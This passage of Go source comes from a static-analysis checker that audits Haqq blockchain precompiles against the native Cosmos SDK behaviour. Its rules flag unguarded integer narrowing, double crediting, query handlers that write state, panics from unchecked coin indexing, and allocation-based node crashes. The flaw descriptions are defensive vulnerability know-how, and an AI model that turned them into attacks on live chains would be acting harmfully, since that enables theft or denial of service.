							okKind = true // identity comparison (C04 R1)
						}
						if h.Method == "claimRewards" && (x.Op == token.LSS || x.Op == token.GTR) {
							okKind = true // maxRetrieve bound of the batch method (no native counterpart)
						}
						why = "the comparison " + x.X.Name() + " " + x.Op.String() + " " + x.Y.Name()
					case *ssa.Call:
						n := callInfo(x).Name
						okKind = n == "HasChannel" // ibc-go's sendTransfer fails on a missing channel too
						why = "the call " + n + "()"
					case *ssa.Extract:
						if c, ok := x.Tuple.(*ssa.Call); ok && allowedErrSrc(c) {
							okKind = true
						}
					case *ssa.Phi:
						okKind = true // short-circuit of classified conditions is decided at its leaves
					}
					if !okKind {
						r.Bad("R2", fmt.Sprintf("%s#no-extra-rejection-%d", inst, nPre), P.Pos(instrPos(ifi)), "before calling "+want+" the handler can fail on "+why+", which is not a decoder error, an identity or grant check, or a tabled pre-condition the native message shares: the precompile refuses inputs the native message accepts (or the two disagree on which error wins)")
					}
				}
				if nPre > 0 {
					r.OK("R2", inst+"#pre-dispatch-branches-classified", P.Pos(fnPos(h.Fn)), fmt.Sprintf("%d deciding branches before the native call examined", nPre))
				}
			}
			// message argument = decoder result, unmodified
			ci := callInfo(disp)
			if ci.Invoke && ci.Recv == "MsgServer" || strings.HasSuffix(want, ".Transfer") {
				msgArg := stripValue(argN(disp, 1))
				ex, ok := msgArg.(*ssa.Extract)
				var dec *ssa.Function
				if ok {
					if c, ok := ex.Tuple.(*ssa.Call); ok && c.Call.StaticCallee() != nil && strings.Contains(fnPkgPath(c.Call.StaticCallee()), "/precompiles/") {
						dec = c.Call.StaticCallee()
					}
				}
				if dec == nil {
					r.Bad("R2", inst+"#message-unmodified", P.Pos(instrPos(disp)), "the message handed to the message server is not directly the decoder's result")
				} else {
					modified := ""
					eachInstr(h.Fn, func(in ssa.Instruction) {
						if st, ok := in.(*ssa.Store); ok && addrRoot(st.Addr) == msgArg {
							modified = P.Pos(instrPos(in))
						}
					})
					r.Check(modified == "", "R2", inst+"#message-unmodified", P.Pos(instrPos(disp)), "decoder result passed unmodified", "a field of the decoded message is overwritten at "+modified+" before it is handed to the message server")
					decoderCoherent(r, "R2", dec)
				}
			}
			// message server construction
			if ci.Invoke && ci.Recv == "MsgServer" {
				src := backSlice(disp.Common().Value)
				ctor := ""
				src.Any(func(v ssa.Value) bool {
					if c, ok := v.(*ssa.Call); ok {
						cc := callInfo(c)
						if strings.HasPrefix(cc.Name, "NewMsgServerImpl") {
							ctor = strings.TrimPrefix(cc.PkgPath, haqqMod+"/") + "." + cc.Name
						}
					}
					return false
				})
				wantCtor := map[string]string{"precompiles/staking": "x/staking/keeper.NewMsgServerImpl", "precompiles/distribution": "github.com/cosmos/cosmos-sdk/x/distribution/keeper.NewMsgServerImpl"}[m.Rel]
				r.Check(ctor == wantCtor, "R2", inst+"#msg-server", P.Pos(instrPos(disp)), "message server = "+ctor,
					fmt.Sprintf("message server is constructed by %q, expected the module's own %q (for staking: the Haqq wrapper that enforces the vesting rules)", ctor, wantCtor))
			}
		}
		// ---- R3 ----
		gasRule(r, m)
	}
	r.Floor("R2", "spend handlers with a native message", nTx, 10)
	// R4: query handlers that collect results through keeper iterators must visit every entry
	r.Rule("R4", "PATH.query-completeness: a closure passed by a precompile query handler to a keeper Iterate* method returns the constant false on every path (the iteration is never cut short)")
	nCb := 0
	for _, fn := range P.Funcs {
		if !strings.Contains(fnPkgPath(fn), "/precompiles/") || isTestSupport(P, fn) {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if !strings.HasPrefix(ci.Name, "Iterate") || ci.Recv == "" {
				return
			}
			var cbs []*ssa.Function
			for _, a := range ci.Instr.Common().Args {
				switch x := a.(type) {
				case *ssa.MakeClosure:
					if f, ok := x.Fn.(*ssa.Function); ok {
						cbs = append(cbs, f)
					}
				case *ssa.Function:
					cbs = append(cbs, x)
				case *ssa.Call:
					// callback produced by a helper: every closure the helper can return
					if sc := x.Call.StaticCallee(); sc != nil && strings.Contains(fnPkgPath(sc), "/precompiles/") {
						if _, isFn := x.Type().Underlying().(*types.Signature); isFn {
							cbs = append(cbs, sc.AnonFuncs...)
						}
					}
				}
			}
			for _, cb := range cbs {
				if cb == nil || cb.Signature.Results().Len() != 1 {
					continue
				}
				if b, ok := cb.Signature.Results().At(0).Type().Underlying().(*types.Basic); !ok || b.Kind() != types.Bool {
					continue
				}
				nCb++
				bad := ""
				eachInstr(cb, func(in ssa.Instruction) {
					if ret, ok := in.(*ssa.Return); ok {
						if cb.Recover != nil && ret.Block() == cb.Recover {
							return
						}
						v := retOperands(ret)[0]
						if k, isK := v.(*ssa.Const); !isK || k.Value == nil || k.Value.String() != "false" {
							bad = P.Pos(instrPos(in))
						}
					}
				})
				// jailed-validator style filters use a bare `return` of a named (zero) result: also constant false
				r.Check(bad == "", "R4", fnID(cb)+"#never-stops", P.Pos(fnPos(cb)), "callback always returns false", "the iterator callback can return something other than the constant false (at "+bad+"): the iteration stops early and the precompile reports fewer entries than the module holds")
			}
		})
	}
	r.Floor("R4", "iterator callbacks in precompiles", nCb, 3)
	// R6: SDK query servers that write
	r.Rule("R6", "PATH.writing-queries-branched: the SDK's distribution query server advances the validator's reward period (IncrementValidatorPeriod → store writes) in ValidatorDistributionInfo, DelegationRewards and DelegationTotalRewards — harmless behind gRPC (throw-away context), a state change when called on the transaction's context. A precompile handler calls these only with the context returned by ctx.CacheContext() whose write function is never used. (Table derived by the whole-program rule W2 on the pinned SDK; W2 re-derives it in the thorough tier.)")
	writingQueries := map[string]bool{"ValidatorDistributionInfo": true, "DelegationRewards": true, "DelegationTotalRewards": true}
	nWQ := 0
	for _, m := range wiredPrecompiles(r) {
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			for _, s := range externalSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				if s.Info.Recv != "Querier" || !writingQueries[s.Info.Name] || !pathHasSuffix(s.Info.PkgPath, "x/distribution/keeper") {
					continue
				}
				nWQ++
				r.Check(writesDiscardedCacheCtx(s.Call), "R6", fnID(h.Fn)+"#"+s.Info.Name, P.Pos(instrPos(s.Call)), "runs on a branched context that is discarded",
					"the handler hands the transaction's own context to distribution Querier."+s.Info.Name+", which advances the validator's reward period: a method that IsTransaction does not list (callable under STATICCALL, priced as a query) writes to the distribution store, and the native query has no such effect")
			}
		}
	}
	r.Floor("R6", "calls of state-writing SDK queries in precompile handlers", nWQ, 3)
	// R7: query handlers answer from the module's own read path
	r.Rule("R7", "TABLE.query-dispatch: each read-only precompile method obtains its answer from the tabled native read — the module's own gRPC query server method (staking/distribution Querier.<Method>), the keeper read the native query itself is defined by (GetRedelegation, GetSupply, Iterate*Balances/TotalSupply, DenomTrace(s)/DenomHash, GetAuthorization) — and the bytes it returns derive from that call's result. A handler that recomputes the figure itself is a second definition whose equality with the native query (share/token rounding, pagination, filtering) this analysis cannot establish, so it is reported")
	queryDispatch := map[string]map[string]string{
		"precompiles/staking": {"delegation": "Querier.Delegation", "unbondingDelegation": "Querier.UnbondingDelegation", "validator": "Querier.Validator", "validators": "Querier.Validators",
			"redelegation": "Keeper.GetRedelegation", "redelegations": "Querier.Redelegations", "allowance": "Keeper.GetAuthorization"},
		"precompiles/distribution": {"validatorDistributionInfo": "Querier.ValidatorDistributionInfo", "validatorOutstandingRewards": "Querier.ValidatorOutstandingRewards", "validatorCommission": "Querier.ValidatorCommission",
			"validatorSlashes": "Querier.ValidatorSlashes", "delegationRewards": "Querier.DelegationRewards", "delegationTotalRewards": "Querier.DelegationTotalRewards",
			"delegatorValidators": "Querier.DelegatorValidators", "delegatorWithdrawAddress": "Querier.DelegatorWithdrawAddress"},
		"precompiles/ics20": {"denomTrace": "Keeper.DenomTrace", "denomTraces": "Keeper.DenomTraces", "denomHash": "Keeper.DenomHash", "allowance": "Keeper.GetAuthorization"},
		"precompiles/bank":  {"balances": "ViewKeeper.IterateAccountBalances", "totalSupply": "Keeper.IterateTotalSupply", "supplyOf": "Keeper.GetSupply"},
	}
	nQD := 0
	for _, m := range wiredPrecompiles(r) {
		tbl := queryDispatch[m.Rel]
		for _, h := range m.Handlers {
			if h.Fn == nil || h.IsTx || !m.Stateful {
				continue
			}
			inst := fnID(h.Fn) + "#query-dispatch"
			want, ok := tbl[h.Method]
			if !ok {
				r.Bad("R7", inst, P.Pos(fnPos(h.Fn)), "read-only method "+h.Method+" has no entry in the native-read table (new method: confirm which native query it corresponds to)")
				continue
			}
			nQD++
			var site *extSite
			for _, s := range externalSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				s := s
				if s.Info.Recv+"."+s.Info.Name == want {
					site = &s
				}
			}
			if site == nil {
				r.Bad("R7", inst, P.Pos(fnPos(h.Fn)), "the handler of "+h.Method+" no longer calls "+want+": its answer is computed by the precompile itself, a second definition of the native query")
				continue
			}
			// the returned bytes depend on the native call's result (directly, or through the callback handed to an iterator)
			dep := false
			isIter := strings.HasPrefix(site.Info.Name, "Iterate")
			eachInstr(h.Fn, func(in ssa.Instruction) {
				ret, ok := in.(*ssa.Return)
				if !ok || !isSuccessExit(in) || dep {
					return
				}
				sl := backSlice(retOperands(ret)[0])
				if sl.HasCall(func(ci CallInfo) bool { return ci.Recv+"."+ci.Name == want }) {
					dep = true
				}
			})
			if !dep && (isIter || site.Call.Parent() != h.Fn) {
				dep = true // result collected through the iterator callback / inside a helper: presence of the call is what is decided
			}
			r.Check(dep, "R7", inst, P.Pos(instrPos(site.Call)), "answers from "+want, "the handler calls "+want+" but the bytes it returns do not derive from that call's result")
			// … and on every success path: the only way to a success exit around the native read is a tabled edge
			if site.Call.Parent() == h.Fn {
				isRead := func(in ssa.Instruction) bool { return in == ssa.Instruction(site.Call) }
				var bypass []Edge
				if m.Rel == "precompiles/bank" && h.Method == "supplyOf" {
					// a contract address without a registered pair has no denomination to ask the bank about
					for _, b := range h.Fn.Blocks {
						if ifi, ok := lastIf(b); ok {
							if ex, ok := stripNot(ifi.Cond).(*ssa.Extract); ok && ex.Index == 1 {
								if c, ok := ex.Tuple.(*ssa.Call); ok && callInfo(c).Name == "GetTokenPair" {
									if ifi.Cond == ssa.Value(ex) {
										bypass = append(bypass, Edge{b, 1})
									} else {
										bypass = append(bypass, Edge{b, 0})
									}
								}
							}
						}
					}
				}
				w := PathQuery{Fn: h.Fn, Block: isRead, Target: isSuccessExit, DelEdge: edgeSet(bypass)}.Search()
				r.Check(w == nil, "R7", inst+"/on-every-success-path", P.Pos(instrPos(site.Call)), "every success exit is preceded by "+want+" (tabled bypass: no registered pair)",
					"the handler of "+h.Method+" can answer successfully without asking "+want+" (an extra condition short-circuits to a canned answer): for the inputs that condition selects the precompile's answer is not the native one", P.witness(w)...)
			}
		}
	}
	r.Floor("R7", "read-only precompile methods with a tabled native read", nQD, 20)
	// R8: the bank precompile's denom → ERC20 address mapping
	r.Rule("R8", "PATH.registered-pair-first: erc20 Keeper.GetCoinAddress — the only source of the addresses under which the bank precompile lists balances and supplies — resolves a denomination through the token-pair registry (GetDenomMap → GetTokenPair → pair contract) and falls back to the hash-derived IBC voucher address only over the edge on which the registry has no entry (len(id) == 0); balances()/totalSupply() obtain the address from GetCoinAddress")
	if gca, ok := P.FnOK("(x/erc20/keeper.Keeper).GetCoinAddress"); ok {
		isHash := isCallMatching(func(ci CallInfo) bool { return ci.Name == "GetIBCDenomAddress" })
		noEntry, _ := condEdges(gca, func(x, y ssa.Value) bool {
			c, ok := stripValue(x).(*ssa.Call)
			if !ok {
				return false
			}
			b, ok := c.Call.Value.(*ssa.Builtin)
			if !ok || b.Name() != "len" {
				return false
			}
			n, okc := constInt(y)
			return okc && n == 0 && backSlice(c.Call.Args[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetDenomMap" })
		})
		w := PathQuery{Fn: gca, Target: isHash, DelEdge: edgeSet(noEntry)}.Search()
		pairAddr := false
		eachInstr(gca, func(in ssa.Instruction) {
			if ret, ok := in.(*ssa.Return); ok && isSuccessExit(in) {
				if backSlice(retOperands(ret)[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetTokenPair" }) {
					pairAddr = true
				}
			}
		})
		r.Check(len(noEntry) > 0 && w == nil && pairAddr, "R8", fnID(gca)+"#registered-pair-first", P.Pos(fnPos(gca)), "hash-derived address only for denominations without a registered pair",
			"GetCoinAddress can answer with the hash-derived voucher address for a denomination that has a registered token pair (or never answers with the pair's contract): the bank precompile lists that denomination under an address that is not its ERC20 contract", P.witness(w)...)
	} else {
		r.Bad("R8", "anchor/erc20.GetCoinAddress", "", "not found")
	}
	for _, m := range wiredPrecompiles(r) {
		if m.Rel != "precompiles/bank" {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil || (h.Method != "balances" && h.Method != "totalSupply") {
				continue
			}
			uses := false
			for _, f := range withAnon(h.Fn) {
				eachCall(f, func(ci CallInfo) {
					if ci.Name == "GetCoinAddress" {
						uses = true
					}
				})
			}
			r.Check(uses, "R8", fnID(h.Fn)+"#address-from-registry", P.Pos(fnPos(h.Fn)), "addresses come from GetCoinAddress", "the bank precompile method "+h.Method+" no longer obtains ERC20 addresses from GetCoinAddress")
		}
	}

	// R5: a handler that applies a Cosmos-side effect per element of a list applies it to every element
	r.Rule("R5", "PATH.per-element-effect: in a precompile handler, a loop whose body performs a Cosmos-side effect performs it on every iteration — from the start of the body the loop header (next element) or a success exit is reachable only through the effect call; no filter `continue`/`break` decides which elements the native message would have processed anyway")
	nLoopEff := 0
	for _, m := range wiredPrecompiles(r) {
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			fn := h.Fn
			for _, hd := range fn.Blocks {
				if !isLoopHeader(hd) {
					continue
				}
				body := loopBody(hd)
				var effects []ssa.Instruction
				for b := range body {
					for _, in := range b.Instrs {
						if c, ok := in.(ssa.CallInstruction); ok && isCosmosEffect(callInfo(c)) {
							effects = append(effects, in)
						}
					}
				}
				if len(effects) == 0 {
					continue
				}
				nLoopEff++
				isEff := func(in ssa.Instruction) bool {
					for _, e := range effects {
						if e == in {
							return true
						}
					}
					return false
				}
				// body entry: the successor of the header that is inside the loop
				var starts []*ssa.BasicBlock
				for _, sc := range hd.Succs {
					if body[sc] && sc != hd {
						starts = append(starts, sc)
					}
				}
				okAll := len(starts) > 0
				var wit []string
				for _, sb := range starts {
					w := PathQuery{Fn: fn, StartBlock: sb, Block: isEff, Target: func(in ssa.Instruction) bool {
						if in == hd.Instrs[0] {
							return true
						}
						return !body[in.Block()] && isSuccessExit(in)
					}}.Search()
					if w != nil {
						okAll = false
						wit = P.witness(w)
					}
				}
				r.Check(okAll, "R5", fmt.Sprintf("%s#loop@%s", fnID(fn), hd.Comment), P.Pos(instrPos(hd.Instrs[0])), "every iteration performs the effect",
					"an iteration of this loop can be skipped (or the loop left with success) without performing the Cosmos-side effect: the precompile then does less than the native message(s) would — e.g. rewards of some validators stay unclaimed although the call reports success", wit...)
			}
		}
	}
	r.Floor("R5", "handler loops with a Cosmos-side effect", nLoopEff, 1)
	// R10: a read-only method reports what the native read returned
	r.Rule("R10", "FLOW.native-answer-unedited: a read-only precompile method never stores into the object the native read returned (no field or element of the response is replaced between the native call and the ABI packing) — filtering or rewriting the response makes the precompile answer differ from the native query at the heights where the filter bites")
	nQ := 0
	for _, m := range wiredPrecompiles(r) {
		for _, h := range m.Handlers {
			if h.Fn == nil || h.IsTx {
				continue
			}
			nQ++
			bad := ""
			for _, f := range withAnon(h.Fn) {
				eachInstr(f, func(in ssa.Instruction) {
					st, ok := in.(*ssa.Store)
					if !ok {
						return
					}
					for a := st.Addr; a != nil; {
						switch x := a.(type) {
						case *ssa.FieldAddr:
							a = x.X
						case *ssa.IndexAddr:
							a = x.X
						case *ssa.UnOp:
							a = x.X
						case *ssa.Extract:
							a = x.Tuple
						case *ssa.Call:
							if sc := x.Call.StaticCallee(); sc != nil && !strings.Contains(fnPkgPath(sc), "/precompiles/") && !isHaqqPath(fnPkgPath(sc)) || x.Call.IsInvoke() {
								if bad == "" {
									bad = callInfo(x).String() + " edited at " + P.Pos(instrPos(in))
								}
							}
							a = nil
						default:
							a = nil
						}
					}
				})
			}
			r.Check(bad == "", "R10", fnID(h.Fn)+"#native-answer-unedited", P.Pos(fnPos(h.Fn)), "no store into a native response",
				"the read-only method rewrites the response of "+bad+" before packing it: its answer is no longer the native query's answer")
		}
	}
	r.Floor("R10", "read-only precompile methods", nQ, 20)
	// R9: the message a precompile hands to the native message server passed the native stateless validation
	r.Rule("R9", "PATH.message-validated-like-native: every precompile function that builds a native message from calldata (it returns a *Msg… of a Cosmos module and an error) reaches a success exit only through an error-checked ValidateBasic() of the very message it returns — BaseApp validates a native message before delivery and the SDK's message servers do not validate again, so a constructor that validates 'by hand' accepts boundary inputs (a zero amount, an empty address) the native transaction rejects")
	nCtor := 0
	for _, fn := range P.Funcs {
		if !strings.Contains(fnPkgPath(fn), "/precompiles/") || fn.Synthetic != "" || fn.Parent() != nil || isTestSupport(P, fn) {
			continue
		}
		res := fn.Signature.Results()
		if res.Len() < 2 || !isErrorType(res.At(res.Len()-1).Type()) {
			continue
		}
		pt, ok := res.At(0).Type().(*types.Pointer)
		if !ok || !strings.HasPrefix(namedName(pt.Elem()), "Msg") || isHaqqPath(namedPkgPath(pt.Elem())) {
			continue
		}
		if types.NewMethodSet(pt).Lookup(nil, "ValidateBasic") == nil {
			continue
		}
		nCtor++
		var bad []ssa.Instruction
		eachInstr(fn, func(in ssa.Instruction) {
			ret, ok := in.(*ssa.Return)
			if !ok || classifyExit(ret) == ExitFailure {
				return
			}
			msg := stripValue(retOperands(ret)[0])
			// handed through from another constructor of this kind (checked on its own)
			if ex, ok := msg.(*ssa.Extract); ok && ex.Index == 0 {
				if c, ok := ex.Tuple.(*ssa.Call); ok && c.Call.StaticCallee() != nil && strings.Contains(fnPkgPath(c.Call.StaticCallee()), "/precompiles/") {
					if rt, ok := c.Call.StaticCallee().Signature.Results().At(0).Type().(*types.Pointer); ok && types.Identical(rt, pt) {
						return
					}
				}
			}
			isVB := func(x ssa.Instruction) bool {
				c, ok := x.(ssa.CallInstruction)
				if !ok || callInfo(c).Name != "ValidateBasic" || !errHandled(c) {
					return false
				}
				a := callArgs(c)
				if len(a) == 0 {
					return false
				}
				recv := a[0]
				if u, ok := recv.(*ssa.UnOp); ok && u.Op == token.MUL {
					recv = u.X
				}
				return stripValue(recv) == msg
			}
			if w := (PathQuery{Fn: fn, Block: isVB, Target: func(x ssa.Instruction) bool { return x == in }}).Search(); w != nil && bad == nil {
				bad = w
			}
		})
		r.Check(bad == nil, "R9", fnID(fn)+"#validated-like-native", P.Pos(fnPos(fn)), "every success exit passes ValidateBasic() of the returned message",
			"the message constructor can return a message that did not pass its own ValidateBasic(): the native route rejects such a message before delivery, the precompile executes it (e.g. a zero-amount delegate stores an empty delegation / unbonding entry)", P.witness(bad)...)
	}
	r.Floor("R9", "precompile message constructors", nCtor, 9)
	r.Rule("R13", "TABLE.address-mapping-is-invertible (sibling agreement): balances() and totalSupply() list a denomination under the address erc20 Keeper.GetCoinAddress gives it — the registered pair's contract, or, for an unregistered IBC voucher, an address derived from the hash (utils.GetIBCDenomAddress). supplyOf(address) must be able to answer for every address those two methods can list: as long as GetCoinAddress derives addresses outside the registry, supplyOf may not answer a constant zero when the registry does not know the address without having consulted the bank supply")
	{
		gca, ok1 := P.FnOK("(x/erc20/keeper.Keeper).GetCoinAddress")
		so, ok2 := P.FnOK("(precompiles/bank.Precompile).SupplyOf")
		if !ok1 || !ok2 {
			r.Bad("R13", "anchor/GetCoinAddress+SupplyOf", "", "not found")
		} else {
			derives := len(findCalls(gca, func(ci CallInfo) bool { return ci.Name == "GetIBCDenomAddress" })) > 0
			// supplyOf: a success exit that packs a constant zero without a bank supply read before it
			isSupplyRead := isCallMatching(func(ci CallInfo) bool {
				return ci.Name == "GetSupply" || ci.Name == "IterateTotalSupply" || ci.Name == "GetPaginatedTotalSupply"
			})
			w := PathQuery{Fn: so, Block: isSupplyRead, Target: func(in ssa.Instruction) bool {
				ret, ok := in.(*ssa.Return)
				return ok && classifyExit(ret) != ExitFailure
			}}.Search()
			r.Check(!derives || w == nil, "R13", fnID(so)+"#answers-for-every-listed-address", P.Pos(fnPos(so)), "supplyOf consults the bank supply on every success path (or no address is derived outside the registry)",
				"GetCoinAddress gives unregistered IBC vouchers a hash-derived address, under which balances() and totalSupply() list them, but supplyOf answers 0 for any address the pair registry does not know without looking at the bank supply: for such a voucher the bank module's supply is non-zero and supplyOf(address) is 0", P.witness(w)...)
		}
	}
	r.Rule("R12", "PATH.abi-integers-narrowed-under-guard: the ABI hands a precompile 256-bit integers; wherever a precompile function narrows a *big.Int to a machine word for a native message field (Int64()/Uint64()) the call is reachable only over the passing edge of IsInt64()/IsUint64() on that same value — an unguarded narrowing maps k·2^64 + h to h, so the precompile accepts (and acts on) an argument the native message, which carries the real value, rejects")
	{
		nN := 0
		for _, fn := range P.Funcs {
			if !strings.Contains(fnPkgPath(fn), "/precompiles/") || strings.Contains(fnPkgPath(fn), "/testutil") || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			eachCall(fn, func(ci CallInfo) {
				if !(ci.Name == "Int64" || ci.Name == "Uint64") || ci.Recv != "Int" || ci.PkgPath != "math/big" {
					return
				}
				recv := stripValue(ci.Instr.Common().Args[0])
				// only values that arrive from outside (type-asserted ABI arguments, fields of ABI structs)
				fromABI := false
				backSlice(recv).Any(func(v ssa.Value) bool {
					if _, ok := v.(*ssa.TypeAssert); ok {
						fromABI = true
					}
					return fromABI
				})
				if !fromABI {
					return
				}
				nN++
				want := "Is" + ci.Name
				pass, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
					c, ok := cond.(*ssa.Call)
					if !ok || callInfo(c).Name != want || len(c.Call.Args) == 0 {
						return false, false
					}
					return true, stripValue(c.Call.Args[0]) == recv
				})
				call := ci.Instr
				w := PathQuery{Fn: fn, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(call) }, DelEdge: edgeSet(pass)}.Search()
				r.Check(w == nil && len(pass) > 0, "R12", fmt.Sprintf("%s#%s-narrowing-guarded", fnID(fn), ci.Name), P.Pos(instrPos(ci.Instr)), "reachable only where "+want+"() holds",
					"an ABI integer is narrowed with "+ci.Name+"() without a preceding "+want+"() guard: values that differ by a multiple of 2^64 are accepted as the same argument, which the native message (carrying the full value) would reject", P.witness(w)...)
			})
		}
		r.Floor("R12", "narrowings of ABI integers in precompiles", nN, 1)
	}
	r.Rule("R11", "see C02 R4t (imported, mirror targets): a StateDB balance write made by a handler is a mirror of the native message's bank change only if the account's state object was loaded before that change (the frame's caller, the origin, or an address read through the StateDB before the effect); a 'mirror' for any other address — a withdraw address, a validator account — is applied on top of a balance that already contains the change, so the precompile credits twice what the native message credits")
	r.Import("R11/C02.", []string{"R4t", "R11", "R18"}, runC02)
	r.Rule("R14", "PATH.native-answer-of-any-length: the native message or query decides how many coins its answer carries (none when a commission or reward truncates to nothing, several under a multi-denomination reward) and succeeds in every case; a precompile function therefore takes a figure out of an sdk.Coins / sdk.DecCoins value by denomination (AmountOf) or by ranging over it, or indexes it at a constant position only where a test of len() of that same value dominates the access — an unguarded coins[k] panics (the call reverts) exactly where the native message succeeds")
	{
		isCoins := func(t types.Type) bool {
			n := namedName(t)
			return (n == "Coins" || n == "DecCoins") && strings.HasSuffix(namedPkgPath(t), "cosmos-sdk/types")
		}
		nF := 0
		for _, fn := range P.Funcs {
			if !strings.Contains(fnPkgPath(fn), "/precompiles/") || strings.Contains(fnPkgPath(fn), "/testutil") || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			handles := false
			var bad []ssa.Instruction
			eachInstr(fn, func(in ssa.Instruction) {
				v, ok := in.(ssa.Value)
				if ok && isCoins(v.Type()) {
					handles = true
				}
				var x, idx ssa.Value
				switch t := in.(type) {
				case *ssa.IndexAddr:
					x, idx = t.X, t.Index
				case *ssa.Index:
					x, idx = t.X, t.Index
				default:
					return
				}
				if !isCoins(x.Type()) {
					return
				}
				if _, isConst := idx.(*ssa.Const); !isConst {
					return // a range/loop index is bounded by the loop condition
				}
				base := stripValue(x)
				guarded := false
				for _, b := range fn.Blocks {
					iff, ok := lastIf(b)
					if !ok || !dominates(b, in.Block()) || b == in.Block() {
						continue
					}
					backSlice(iff.Cond).Any(func(v ssa.Value) bool {
						if c, ok := v.(*ssa.Call); ok {
							if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" && stripValue(c.Call.Args[0]) == base {
								guarded = true
							}
							if ci := callInfo(c); (ci.Name == "Len" || ci.Name == "Empty" || ci.Name == "IsZero") && len(c.Call.Args) > 0 && stripValue(c.Call.Args[0]) == base {
								guarded = true
							}
						}
						return guarded
					})
				}
				if !guarded {
					bad = append(bad, in)
				}
			})
			for _, p := range fn.Params {
				if isCoins(p.Type()) {
					handles = true
				}
			}
			if !handles {
				continue
			}
			nF++
			pos, wit := fnPos(fn), []string(nil)
			if len(bad) > 0 {
				pos = instrPos(bad[0])
				wit = P.witness(bad)
			}
			r.Check(len(bad) == 0, "R14", fnID(fn)+"#coins-read-by-denomination-or-under-length-test", P.Pos(pos), "no unguarded constant index into a coin list",
				"a precompile function indexes a coin list at a constant position without a dominating test of its length: when the native answer is empty (an amount that truncates to nothing) or ordered differently the precompile panics or reports another denomination, while the native message succeeds", wit...)
		}
		r.Floor("R14", "precompile functions that handle a coin list", nF, 20)
	}
	r.Rule("R15", "TABLE.answer-fields-carry-their-namesakes: the output structs the read-only methods pack (ValidatorInfo, the delegation / unbonding / redelegation entries, …) repeat field names of the native responses. Wherever a precompile function stores into field F of such a struct a value that comes from a native (cosmos-sdk / ibc-go) struct which itself has a field F, the value is read from that field F (or its getter GetF / IsF) — not from a sibling field or a derived method of the same object (BondedTokens() for Tokens is zero for every validator outside the bonded set, while the native query reports its tokens)")
	{
		nFld := 0
		hasField := func(t types.Type, name string) bool {
			if p, ok := t.(*types.Pointer); ok {
				t = p.Elem()
			}
			st, ok := t.Underlying().(*types.Struct)
			if !ok {
				return false
			}
			for i := 0; i < st.NumFields(); i++ {
				if st.Field(i).Name() == name {
					return true
				}
			}
			return false
		}
		isNative := func(t types.Type) bool {
			pp := namedPkgPath(t)
			return pp != "" && !isHaqqPath(pp) && (strings.Contains(pp, "cosmos-sdk/x/") || strings.Contains(pp, "ibc-go"))
		}
		for _, fn := range P.Funcs {
			if !strings.Contains(fnPkgPath(fn), "/precompiles/") || strings.Contains(fnPkgPath(fn), "/testutil") || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			seen := map[string]int{}
			eachInstr(fn, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				fa, ok := st.Addr.(*ssa.FieldAddr)
				if !ok {
					return
				}
				sn, f, ok := fieldOfAddr(st.Addr)
				if !ok || !isHaqqPath(namedPkgPath(deref(fa.X.Type()))) || !strings.Contains(namedPkgPath(deref(fa.X.Type())), "/precompiles/") {
					return
				}
				// native objects the value is taken from that have a field of the same name
				sameName, namesake := false, false
				backSlice(st.Val).Any(func(v ssa.Value) bool {
					switch x := v.(type) {
					case *ssa.FieldAddr:
						if isNative(deref(x.X.Type())) && hasField(deref(x.X.Type()), f) {
							sameName = true
							if _, ff, ok := fieldOfAddr(x); ok && ff == f {
								namesake = true
							}
						}
					case *ssa.Field:
						if isNative(x.X.Type()) && hasField(x.X.Type(), f) {
							sameName = true
							if _, ff, ok := fieldOfValue(x); ok && ff == f {
								namesake = true
							}
						}
					case *ssa.Call:
						ci := callInfo(x)
						if len(x.Call.Args) > 0 && isNative(deref(x.Call.Args[0].Type())) && hasField(deref(x.Call.Args[0].Type()), f) {
							sameName = true
							if ci.Name == "Get"+f || ci.Name == "Is"+f {
								namesake = true
							}
						}
					}
					return false
				})
				if !sameName {
					return
				}
				nFld++
				seen[sn+"."+f]++
				r.Check(namesake, "R15", fmt.Sprintf("%s#%s.%s-%d-from-its-namesake", fnID(fn), sn, f, seen[sn+"."+f]), P.Pos(instrPos(in)), "read from the native field of the same name",
					"the answer field "+sn+"."+f+" is filled from a native object that has a field "+f+" — but not from that field: the precompile reports another figure than the native query (e.g. BondedTokens() instead of Tokens: zero for a jailed or unbonding validator)")
			})
		}
		r.Floor("R15", "answer fields with a native namesake", nFld, 20)
	}
	r.Rule("R16", "PATH.calldata-cannot-crash-the-node: (a) a count that the caller chooses and a keeper turns into an up-front allocation (the maxRetrieve of GetDelegatorValidators / GetDelegatorDelegations …: make([]T, maxRetrieve)) is compared with a bound before the call — 2^32−1 is a 1 TB allocation, a runtime fatal error that no recover catches, in DeliverTx and in eth_call alike; (b) precompile code decodes calldata strings with the error-returning decoders only — no sdk.Must…FromBech32: the native message answers a malformed or unusually spelled address with an error, a panic fails the whole transaction (and an upper-case validator address is *valid*)")
	{
		nMax, nMust := 0, 0
		for _, fn := range P.Funcs {
			if !strings.Contains(fnPkgPath(fn), "/precompiles/") || strings.Contains(fnPkgPath(fn), "/testutil") || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if strings.HasPrefix(ci.Name, "Must") && strings.Contains(ci.Name, "Bech32") {
					// a constant argument cannot be malformed at run time
					allConst := len(ci.Instr.Common().Args) > 0
					for _, a := range ci.Instr.Common().Args {
						if _, isC := a.(*ssa.Const); !isC {
							allConst = false
						}
					}
					if allConst {
						return
					}
					nMust++
